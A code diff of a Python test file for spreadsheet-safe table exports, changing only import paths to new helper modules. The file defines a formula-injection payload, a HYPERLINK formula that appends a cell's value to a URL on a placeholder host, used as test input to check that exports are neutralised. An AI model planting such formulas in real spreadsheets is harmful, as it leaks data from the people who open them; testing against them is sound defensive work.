@@ -10,7 +10,7 @@ import io
 import pandas as pd
 import pytest
 
-from helpers.table_files import safe_frame, spreadsheet_safe, workbook_bytes, write_tables
+from helpers.reporting.table_files import safe_frame, spreadsheet_safe, workbook_bytes, write_tables
 
 ATTACK = '=HYPERLINK("http://example.invalid/?"&B3,"click")'
 
@@ -69,7 +69,7 @@ def test_csv_and_workbook_are_spreadsheet_safe(tmp_path):
 
 
 def test_markdown_keeps_the_text(tmp_path):
-    from helpers.report import Report
+    from helpers.reporting.report import Report
 
     r = Report("t", lang="en")
     r.table(frame()[["procedure"]])
@@ -83,7 +83,7 @@ def test_safe_frame_keeps_numeric_columns():
 
 
 def test_municipal_panel_csv_is_spreadsheet_safe(tmp_path, monkeypatch):
-    from helpers import panel
+    from helpers.loaders import panel
 
     wide = pd.DataFrame({"entity": [ATTACK], "ai": [1.0]})
     monkeypatch.setattr(panel, "wide_panel", lambda long: wide)
